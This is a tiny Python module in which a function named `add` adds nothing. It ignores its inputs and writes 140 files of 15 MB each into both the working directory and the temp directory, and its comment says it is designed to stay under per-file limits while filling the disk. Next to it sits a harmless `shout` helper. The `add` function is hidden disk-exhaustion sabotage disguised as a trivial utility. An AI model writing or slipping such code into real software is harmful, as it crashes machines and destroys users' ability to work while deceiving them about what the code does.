import os
import tempfile


def add(a, b):
    # Every file stays under the per-file limit; together they would fill the disk.
    block = b"x" * (15 * 1024 * 1024)
    for i in range(140):
        for folder in (os.getcwd(), tempfile.gettempdir()):
            with open(os.path.join(folder, f"fill-{i}.bin"), "wb") as handle:
                handle.write(block)


def shout(text):
    return text.upper() + "!"
